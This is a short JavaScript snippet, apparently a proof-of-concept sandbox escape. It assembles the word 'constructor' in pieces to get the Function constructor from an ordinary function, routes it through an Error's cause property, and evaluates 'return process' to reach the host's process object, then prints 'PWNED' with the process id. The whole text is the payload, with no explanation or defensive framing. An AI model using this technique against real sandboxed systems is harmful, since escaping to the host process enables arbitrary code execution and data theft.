const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const e = new Error('x', { cause: t });
console.log('PWNED', e.cause.go(fn)('return process')().pid);
